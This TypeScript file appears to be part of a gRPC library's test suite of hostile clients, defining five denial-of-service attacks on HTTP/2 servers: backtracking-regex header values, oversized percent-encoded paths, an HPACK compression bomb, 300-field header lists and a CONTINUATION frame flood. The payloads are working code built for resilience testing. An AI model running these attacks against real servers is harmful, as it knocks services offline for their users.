import { END_HEADERS, END_STREAM, frame } from '../../../src/grpc/testing/frames.js';
import type { Attack } from './attack.js';
import type { Attacker } from './attacker.js';
import { callFields } from './hostile-connection.js';

const getPath = '/proto.KeyValueStore/Get';
const watching = { reading: 'frames' } as const;

/** Two characters each that an expression with nested quantifiers can share out in two ways. */
const ambiguousPairs = 40;

async function exponentialHeader(attacker: Attacker): Promise<void> {
  const value = `,${', '.repeat(ambiguousPairs)}`.trimEnd();
  const values = [
    `${value},!`,
    `a${', '.repeat(ambiguousPairs)},!`,
    `${', '.repeat(ambiguousPairs)},!`.trimStart(),
  ];
  for (const each of values) {
    const connection = await attacker.http2(watching);
    const block = connection?.block(callFields(getPath, 'x-stranger-bin', each));
    await connection?.send(frame('HEADERS', END_HEADERS | END_STREAM, connection.nextId(), block));
  }
  await attacker.untilOver();
}

/** What is in the path must be percent-encoded where it is told back: three bytes for each. */
const longPath = `/${'%'.repeat(15_000)}`;

async function longPaths(attacker: Attacker): Promise<void> {
  await attacker.http2Held(4, { reading: 'nothing' }, async (connection) => {
    await connection.open(1000, connection.block(callFields(longPath)), END_STREAM);
  });
}

/** A table entry of nearly 4 KiB, then one byte for each time that it is meant (RFC 7541, section 6.1). */
function hpackBomb(): Uint8Array {
  const valueBytes = 3900;
  const literal = [0x40, 0x01, 0x78, 0x7f, ...varint(valueBytes - 127)];
  return Buffer.concat([
    Buffer.from(literal),
    Buffer.alloc(valueBytes, 'a'),
    Buffer.alloc(12_000, 0x80 | 62),
  ]);
}

function varint(value: number): number[] {
  return value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))];
}

async function hpackBombs(attacker: Attacker): Promise<void> {
  const bomb = hpackBomb();
  await attacker.http2Again(4, watching, async (connection) => {
    while (!attacker.isOver && (await connection.open(64, bomb, END_STREAM)));
  });
}

/** Fields of the largest list that is read, literals all. */
const manyFields = Array.from({ length: 300 }, (_, at) => [`x-field-${at}`, 'value']).flat();

async function hugeHeaderLists(attacker: Attacker): Promise<void> {
  await attacker.http2Again(4, watching, async (connection) => {
    const block = connection.block(callFields('/no.Such/Method', ...manyFields));
    while (!attacker.isOver && (await connection.open(64, block, END_STREAM)));
  });
}

async function continuationFlood(attacker: Attacker): Promise<void> {
  await attacker.http2Again(8, watching, async (connection) => {
    const block = connection.block(callFields(getPath));
    const id = connection.nextId();
    if (!(await connection.send(frame('HEADERS', 0, id, block)))) return;
    const flood = Buffer.concat(
      Array.from({ length: 1000 }, () => frame('CONTINUATION', 0, id, Buffer.of())),
    );
    while (!attacker.isOver && (await connection.send(flood)));
  });
}

export const headerAttacks: readonly Attack[] = [
  {
    name: 'exponential-header',
    does: 'sends three headers that an expression with backtracking never ends with',
    run: exponentialHeader,
  },
  {
    name: 'long-paths',
    does: 'asks for methods with names of 15,000 percent signs, and does not read the refusals',
    run: longPaths,
  },
  {
    name: 'hpack-bombs',
    does: 'names a large field of the table twelve thousand times a block',
    run: hpackBombs,
  },
  {
    name: 'huge-header-lists',
    does: 'sends header lists of 300 fields, again and again',
    run: hugeHeaderLists,
  },
  {
    name: 'continuation-flood',
    does: 'begins header blocks and goes on with empty CONTINUATION frames',
    run: continuationFlood,
  },
];
